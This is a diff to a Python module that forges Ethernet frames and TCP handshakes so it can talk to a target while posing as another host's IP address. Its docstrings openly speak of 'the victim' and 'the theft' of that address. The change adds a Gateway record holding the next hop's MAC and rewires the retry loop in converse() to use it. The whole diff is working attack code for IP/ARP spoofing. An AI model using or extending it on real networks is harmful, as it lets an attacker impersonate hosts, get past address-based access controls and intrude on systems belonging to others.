@@ -53,6 +53,13 @@ def parse_segment(packet: bytes) -> Segment | None:
     return Segment(origin, to, port, sequence, acknowledged, flags, data)
 
 
+class Gateway(NamedTuple):
+    """The next hop. Whoever forges learns its MAC address in his own name, which nobody hinders."""
+
+    address: str
+    mac: bytes
+
+
 class Wire:
     """Frames on an interface, sent from `mac` in the name of `address`."""
 
@@ -78,25 +85,24 @@ class Wire:
         raise TimeoutError(f"{target} does not answer ARP")
 
     def converse(
-        self, to: tuple[str, int], gateway: str, request: bytes, seconds: float, *, port: int = 0
+        self, to: tuple[str, int], via: Gateway, request: bytes, seconds: float, *, port: int = 0
     ) -> bytes:
-        """Connect to `to` by way of `gateway`, send `request`, return the first data of the answer.
+        """Connect to `to` by way of `via`, send `request`, return the first data of the answer.
 
         Tries again until it works, since the victim's own packets undo the theft; raises
         TimeoutError. `port` 0: any.
         """
         deadline = time.monotonic() + seconds
-        via = self.resolve(gateway, deadline)
         local = port or random.randrange(20000, 60000)  # noqa: S311 - no secret
         while time.monotonic() < deadline:
             first = random.randrange(1 << 31)  # noqa: S311 - no secret
-            self.request_arp(gateway)
-            self.send_tcp(via, to, local, (first, 0), SYN)
+            self.request_arp(via.address)
+            self.send_tcp(via.mac, to, local, (first, 0), SYN)
             for segment in self.segments(to[0], 0.5, port=local):
                 if segment.flags & SYN_ACK == SYN_ACK:
                     numbers = (first + 1, segment.sequence + 1)
-                    self.send_tcp(via, to, local, numbers, ACK)
-                    self.send_tcp(via, to, local, numbers, ACK | PSH, data=request)
+                    self.send_tcp(via.mac, to, local, numbers, ACK)
+                    self.send_tcp(via.mac, to, local, numbers, ACK | PSH, data=request)
                 elif segment.data:
                     return segment.data
             local += not port  # another conversation, unless it must be this one
